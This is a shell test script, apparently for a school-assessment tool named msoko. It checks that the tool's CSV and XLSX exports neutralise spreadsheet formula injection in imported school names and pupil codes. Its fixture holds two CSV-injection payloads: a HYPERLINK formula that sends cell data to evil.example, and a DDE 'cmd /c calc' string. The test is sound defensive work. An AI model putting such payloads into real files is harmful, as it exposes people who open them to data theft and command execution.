#!/bin/sh
# Exports that cannot hurt: a school named like a formula (imported through the web's form)
# and pupil codes holding «;», «"», «=» and «-» go into every CSV and XLSX msoko writes (the
# schools and list downloads of the web, the form table XLSX of the web, the report XLSX, the
# experts' list of `recheck sample`) as text with a leading apostrophe, quoted per RFC 4180,
# while number cells stay numbers.
. "$(dirname "$0")/tap.inc"
command -v curl >/dev/null || { echo "1..0 # SKIP curl missing (scripts/deps.sh)"; exit 0; }
command -v python3 >/dev/null || { echo "1..0 # SKIP python3 missing (scripts/deps.sh)"; exit 0; }
db=$(newdb exp)
export MSOKO_METHODS="$MSOKO_ROOT/methods" MSOKO_NOW=2024-03-15T09:00:00Z
q() { dbsql "$db" "$1"; }
"$M" init --db "$db" >/dev/null
"$M" demo --db "$db" --schools 30 --seed 1 >/dev/null
"$M" form load --db "$db" "$MSOKO_ROOT"/methods/forms/*.ini >/dev/null
evil='=HYPERLINK("http://evil.example/?d="&A1;"Подробнее")'
printf 'Код ОО;Наименование ОО;Тип ОО;Местность;Уровни образования\nsch000001;"%s";СОШ;городская;НОО,ООО,СОО\nsch000002;"@SUM(1+1)*cmd|'"'"'/c calc'"'"'!A0";СОШ;сельская;НОО,ООО\n' \
    "$(printf '%s' "$evil" | sed 's/"/""/g')" >"$T/evil.csv"
"$M" analyze --db "$db" --year 2024 >/dev/null
"$M" user add ann --role analyst --password 'ann-pass-12' --db "$db" >/dev/null

"$M" serve --db "$db" --listen 127.0.0.1:0 --threads 2 >"$T/serve.log" 2>&1 &
pid=$!
U=""
for i in $(seq 1 100); do
    U=$(sed -n 's/.*\(http:\/\/127\.0\.0\.1:[0-9]*\).*/\1/p' "$T/serve.log" 2>/dev/null)
    [ -n "$U" ] && break
    sleep 0.1
done
[ -n "$U" ] && ok "serve listens" || { not_ok "serve did not start"; cat "$T/serve.log"; kill "$pid"; done_testing; exit 1; }
st() { curl -s -o "$2" -D "$T/hdr" -w '%{http_code}' -b "$T/jar" -c "$T/jar" "$U$1"; }
: >"$T/jar"
st /login "$T/login.html" >/dev/null
tok=$(grep -o 'name="csrf" value="[0-9a-f]*"' "$T/login.html" | head -1 | sed 's/.*value="//;s/"$//')
curl -s -o /dev/null -b "$T/jar" -c "$T/jar" --data-urlencode "csrf=$tok" \
    --data-urlencode "login=ann" --data-urlencode "password=ann-pass-12" "$U/login"
# the schools file goes in through the web's import form: check, then confirm
st /imports "$T/imports.html" >/dev/null
csrf=$(grep -o 'name="csrf" value="[0-9a-f]*"' "$T/imports.html" | head -1 | sed 's/.*value="//;s/"$//')
expect_eq "web import check of the schools file" \
    "$(curl -s -o "$T/check.html" -w '%{http_code}' -b "$T/jar" -c "$T/jar" -F "csrf=$csrf" -F kind=schools -F "file=@$T/evil.csv" "$U/imports")" 200
token=$(grep -o 'name="token" value="[0-9a-f]*"' "$T/check.html" | sed 's/.*value="//;s/"$//')
expect_eq "…confirmed" "$(curl -s -o /dev/null -w '%{http_code}' -b "$T/jar" -c "$T/jar" \
    -d "csrf=$csrf&token=$token&name=evil.csv&kind=schools" "$U/imports/confirm")" 303
expect_eq "…the names stored as they are" "$(q "SELECT name FROM school WHERE code = 'sch000001'")" "$evil"

# cells CSV [SEP]: the fields of each row as JSON lines (Python's RFC 4180 reader)
cells() {
    python3 -c 'import csv, json, sys
for row in csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline=""), delimiter=";"):
    print(json.dumps(row, ensure_ascii=False))' "$1"
}
expect_eq "schools CSV: 200" "$(st "/schools?year=2024&format=csv" "$T/schools.csv")" 200
cells "$T/schools.csv" >"$T/schools.rows"
expect_eq "…the formula name is text with an apostrophe" \
    "$(jq -r 'select(.[0] == "sch000001") | .[1]' "$T/schools.rows")" "'$evil"
expect_eq "…so is the @ one" \
    "$(jq -r 'select(.[0] == "sch000002") | .[1] | .[0:2]' "$T/schools.rows")" "'@"
expect_eq "…every row keeps its 7 columns (the «;» inside is quoted)" \
    "$(jq -c 'length' "$T/schools.rows" | sort -u | tr '\n' ' ')" "7 "
expect_eq "…no field of any row starts with = + - @" \
    "$(jq -r '.[]' "$T/schools.rows" | grep -c '^[=+@-]')" 0
expect_eq "…participants stay a number" \
    "$(jq -r 'select(.[0] == "sch000001") | .[4]' "$T/schools.rows" | grep -c '^[0-9][0-9]*$')" 1
expect_eq "rating list CSV: 200" "$(st "/lists/rating?year=2024&format=csv" "$T/rating.csv")" 200
cells "$T/rating.csv" >"$T/rating.rows"
expect_eq "…the formula name is neutralised there too" \
    "$(jq -r 'select(.[1] == "sch000001") | .[2]' "$T/rating.rows")" "'$evil"
expect_eq "…18 columns a row (the rating table)" "$(jq -c 'length' "$T/rating.rows" | sort -u | tr '\n' ' ')" "18 "
expect_eq "form table XLSX: 200" "$(st "/forms/risk_context/table?period=2024&format=xlsx" "$T/form.xlsx")" 200
# strings PATH: every string cell of an XLSX (shared and inline), one a line
strings() {
    python3 -c 'import re, sys, zipfile, html
z = zipfile.ZipFile(sys.argv[1])
for n in z.namelist():
    if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml":
        x = z.read(n).decode()
        if "<f>" in x: print("FORMULA in " + n)
        for t in re.findall(r"<t[^>]*>(.*?)</t>", x, re.S): print(html.unescape(t))' "$1"
}
strings "$T/form.xlsx" >"$T/form.strings"
expect_grep "…the formula name is text with an apostrophe" "'$evil" "$T/form.strings"
expect_eq "…no cell starts with = or @, no formula" "$(grep -c '^[=@]\|^FORMULA' "$T/form.strings")" 0
expect_ok "report XLSX" "$M" report --db "$db" --year 2024 --format xlsx -o "$T/report.xlsx"
strings "$T/report.xlsx" >"$T/report.strings"
expect_grep "…the formula name is text with an apostrophe" "'$evil" "$T/report.strings"
expect_eq "…no cell starts with = + - @, no formula" "$(grep -c '^[=+@-]\|^FORMULA' "$T/report.strings")" 0
kill "$pid"
wait "$pid" 2>/dev/null

# the experts' list: pupil codes with «;», «"» and a leading «=» or «-» keep their column
q "UPDATE result SET pupil_code = CASE id % 3 WHEN 0 THEN 'a;b' || id WHEN 1 THEN '=1+' || id ELSE '-\"q\"' || id END"
expect_ok "recheck sample with hostile pupil codes" "$M" recheck sample --db "$db" --year 2024 --procedure VPR:math:5 -o "$T/sample.csv"
cells "$T/sample.csv" >"$T/sample.rows"
expect_eq "…every row has 4 columns" "$(jq -c 'length' "$T/sample.rows" | sort -u | tr '\n' ' ')" "4 "
expect_eq "…no code starts with = or -" "$(jq -r '.[1]' "$T/sample.rows" | grep -c '^[=-]')" 0
expect_eq "…each code is the stored one (apostrophe aside)" \
    "$(jq -r '.[1]' "$T/sample.rows" | tail -n +2 | sed "s/^'//" | sort)" \
    "$(q "SELECT r.pupil_code FROM recheck_work w JOIN result r ON r.id = w.result_id WHERE w.round_id = 1" | sort)"
done_testing
